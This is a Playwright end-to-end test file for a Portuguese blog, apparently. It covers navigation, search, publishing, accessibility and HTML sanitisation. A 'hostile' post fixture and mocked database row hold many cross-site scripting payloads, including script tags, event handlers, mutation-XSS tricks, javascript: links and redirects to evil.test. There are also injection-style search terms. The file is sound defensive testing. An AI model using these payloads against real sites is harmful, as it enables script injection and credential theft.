import type { Page } from "@playwright/test";
import { administrator } from "../fixtures/administrator.ts";
import { addressIn, expectAccessible, languages, settle, speak } from "../fixtures/appearance.ts";
import { expect, test } from "../fixtures/test.ts";

const dns = "/blog/dns-sem-misterio-por-que-o-site-demora-a-aparecer";

const cards = (page: Page) => page.getByRole("main").getByRole("article");
const box = (page: Page) => page.getByRole("searchbox");

test("the list leads to an article, and back to where one was", async ({ page }) => {
  await page.goto("/blog");
  await expect(cards(page).filter({ hasText: "DNS sem mistério" })).toBeVisible();
  await page.getByRole("link", { name: /DNS sem mistério/ }).click();
  await expect(page).toHaveURL(dns);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(/DNS sem mistério/);
  await expect(page).toHaveTitle(/Propagação de DNS/);
  await expect(page.getByText("Por Equipe Site Pronto")).toBeVisible();
  await expect(page.getByText("6 de outubro de 2026")).toBeVisible();
  await page.goBack();
  await expect(page).toHaveURL("/blog");
  await expect(cards(page).filter({ hasText: "DNS sem mistério" })).toBeVisible();
});

test("searching ignores case and accents, lives in the address and survives a reload", async ({ page }) => {
  await page.goto("/blog");
  await expect(cards(page).first()).toBeVisible();
  await box(page).pressSequentially("DOMINIO");
  await expect(page).toHaveURL("/blog?busca=DOMINIO");
  await expect(page.getByText(/artigos? encontrados? para “DOMINIO”/)).toBeVisible();
  await expect(cards(page).filter({ hasText: "Como escolher e registrar o domínio" })).toBeVisible();
  await expect(cards(page).filter({ hasText: "Fotos do seu negócio" })).toHaveCount(0);
  await page.reload();
  await expect(box(page)).toHaveValue("DOMINIO");
  await expect(cards(page).filter({ hasText: "Fotos do seu negócio" })).toHaveCount(0);

  await box(page).fill("isto não existe em lugar nenhum");
  await box(page).press("Enter");
  await expect(page.getByText("Nada encontrado para “isto não existe em lugar nenhum”")).toBeVisible();
  await page.getByRole("link", { name: "Ver todos os artigos" }).click();
  await expect(page).toHaveURL("/blog");
  await expect(box(page)).toHaveValue("");
});

test("signs that mean something to the database are only letters in a search", async ({ page }) => {
  for (const term of ["%", "_", "*", "\\", '"', "(", ",", "'; --", "&select=*"]) {
    await page.goto(`/blog?busca=${encodeURIComponent(term)}`);
    await expect(page.getByText(/encontrados? para/).first()).toBeVisible();
    await expect(page.getByRole("alert")).toHaveCount(0);
  }
});

test.describe("without scripts", () => {
  test.use({ javaScriptEnabled: false });

  test("the list and its articles read completely, and lead to one another", async ({ page }) => {
    await page.goto("/blog");
    await expect(cards(page).filter({ hasText: "Fotos do seu negócio" })).toBeVisible();
    await page.getByRole("link", { name: /DNS sem mistério/ }).click();
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(/DNS sem mistério/);
    await expect(page.getByText("Nada está se “espalhando” pelo mundo")).toBeVisible();
    await expect(page.getByRole("navigation", { name: "Neste artigo" })).toBeVisible();
    await page.getByRole("link", { name: "Como escolher e registrar o domínio" }).click();
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(/Como escolher e registrar o domínio/);
  });
});

test("the parts of an article can be jumped to", async ({ page }) => {
  await page.goto(dns);
  await page
    .getByRole("navigation", { name: "Neste artigo" })
    .getByRole("link", { name: "Como acompanhar" })
    .click();
  await expect(page).toHaveURL(/#secao-como-acompanhar$/);
  await expect(page.getByRole("heading", { name: "Como acompanhar" })).toBeInViewport();
  await page.reload();
  await expect(page.getByRole("heading", { name: "Como acompanhar" })).toBeInViewport();
});

test("a link in the text to another article opens it without a fresh page", async ({ page }) => {
  await page.goto(dns);
  await page.evaluate(() => Object.assign(window, { sameDocument: true }));
  await page.getByRole("link", { name: "como escolher e registrar o seu" }).click();
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(/Como escolher e registrar o domínio/);
  expect(await page.evaluate(() => "sameDocument" in window)).toBe(true);
  await expect.poll(() => page.evaluate(() => window.scrollY)).toBe(0);
});

test("an address without a post says so and stays out of search engines", async ({ page }) => {
  await page.goto("/blog/nao-existe");
  await expect(page.getByRole("heading", { level: 1, name: "Artigo não encontrado" })).toBeVisible();
  await expect(page.locator("meta[name=robots]")).toHaveAttribute("content", "noindex");
});

test("a post shows once published, moves with its slug, and goes when taken back", async ({ page }) => {
  const team = await administrator();
  const slug = `de-passagem-${Date.now()}`;
  await team
    .from("blog_posts")
    .insert({ slug, title: "De passagem", author: "Equipe", content: "## Um\n\nTexto." })
    .throwOnError();
  await page.goto(`/blog/${slug}`);
  await expect(page.getByRole("heading", { level: 1, name: "Artigo não encontrado" })).toBeVisible();

  await team.from("blog_posts").update({ status: "published" }).eq("slug", slug).throwOnError();
  await page.reload();
  await expect(page.getByRole("heading", { level: 1, name: "De passagem" })).toBeVisible();

  await team
    .from("blog_posts")
    .update({ slug: `${slug}-novo` })
    .eq("slug", slug)
    .throwOnError();
  await page.goto("/blog");
  await page.goto(`/blog/${slug}`);
  await expect(page).toHaveURL(`/blog/${slug}-novo`);
  await expect(page.getByRole("heading", { level: 1, name: "De passagem" })).toBeVisible();
  await page.goBack();
  await expect(page).toHaveURL("/blog");

  await team.from("blog_posts").delete().eq("slug", `${slug}-novo`).throwOnError();
  await page.goto(`/blog/${slug}`);
  await expect(page.getByRole("heading", { level: 1, name: "Artigo não encontrado" })).toBeVisible();
});

const hostile = `# Antes

<script>window.ran = "script"</script>
<img src="/nada.png" onerror="window.ran = 'onerror'">
<img src=/nada.png onerror=window.ran='onerror'>
<svg onload="window.ran = 'svg'"><foreignObject><body onload="window.ran = 'foreign'"><p>Dentro do desenho</p></body></foreignObject><script>window.ran = 'svg script'</script></svg>
<iframe srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript>

[clique](javascript:window.ran='link') <a href="java&#9;script:window.ran='tab'">aqui</a> <a href="data:text/html,<script>1</script>">ali</a>

<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/">
<form action="https://evil.test/"><input name="senha"><button formaction="javascript:window.ran='form'">Enviar</button></form>
<details open ontoggle="window.ran = 'toggle'"><summary>Resumo</summary>Detalhe</details>
<style>body { display: none }</style>
<div style="position: fixed; inset: 0; z-index: 99; background: red" class="fixed inset-0 z-50">Por cima de tudo</div>
<p id="content">Outro conteúdo</p>

Depois, com \`<script>\` como exemplo.`;

test("a hostile text does nothing but be read", async ({ page, expectConsoleError }) => {
  // Its pictures do not exist.
  expectConsoleError(/status of 404/);
  const elsewhere: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).hostname.endsWith("evil.test")) {
      elsewhere.push(request.url());
    }
  });
  // The database refuses most of it: what an older or imported post may hold comes from here.
  await page.route("**/rest/v1/blog_posts?*slug=eq.hostil*", (route) =>
    route.fulfill({
      headers: { "access-control-allow-origin": "*" },
      json: [
        {
          slug: "hostil",
          title: "<img src=x onerror=window.ran='title'>",
          excerpt: "<script>window.ran='excerpt'</script>",
          author: "<b onmouseover=window.ran=1>Equipe</b>",
          tags: ["<svg onload=window.ran='tag'>"],
          published_at: "2026-11-01T12:00:00+00:00",
          reading_minutes: 1,
          cover_url: null,
          cover_alt: "",
          cover_width: null,
          cover_height: null,
          content: hostile,
          seo_title: "</title><script>window.ran='head'</script>",
          seo_description: '"><script>window.ran=1</script>',
          seo_keywords: "",
          updated_at: "2026-11-01T12:00:00+00:00",
        },
      ],
    }),
  );
  await page.goto("/blog/hostil");
  for (const text of [
    "Dentro do desenho",
    "Por cima de tudo",
    "Outro conteúdo",
    "Depois, com <script> como exemplo.",
  ]) {
    await expect(page.getByText(text)).toBeVisible();
  }
  await expect(page.getByRole("heading", { name: "Antes", level: 2 })).toBeVisible();
  for (const name of ["clique", "aqui", "ali"]) {
    await page.getByText(name, { exact: true }).click();
  }
  await expect(page).toHaveURL("/blog/hostil");
  expect(await page.evaluate(() => "ran" in window)).toBe(false);
  expect(elsewhere).toEqual([]);
  const body = page.locator(".article-body");
  await expect(
    body.locator(
      "script, style, iframe, svg, math, form, input, button, base, meta, [style], [class]:not(.table-scroll)",
    ),
  ).toHaveCount(0);
  await expect(page.locator("#content")).toHaveCount(1);
});

test("the database refuses a text that could act, and takes one that only speaks of it", async () => {
  const team = await administrator();
  const add = (content: string) =>
    team
      .from("blog_posts")
      .insert({ slug: `teste-${Date.now()}`, title: "Teste", author: "Equipe", content })
      .select("slug")
      .single();
  expect((await add("Texto <script>alert(1)</script>")).error?.message).toContain(
    "blog_posts_content_is_passive",
  );
  const taken = await add("Nunca cole um `<script>` que você não conhece.").throwOnError();
  await team.from("blog_posts").delete().eq("slug", taken.data.slug).throwOnError();
});

for (const language of languages) {
  test(`list, search without a find, article and a missing one are accessible and fit in ${language}`, async ({
    page,
  }) => {
    await speak(page, language);
    for (const path of ["/blog", "/blog?busca=xyzxyz", dns, "/blog/nao-existe"]) {
      await page.goto(addressIn(language, path));
      await settle(page);
      await expect(page.locator("html")).toHaveAttribute("lang", language);
      await expectAccessible(page, path);
    }
  });
}
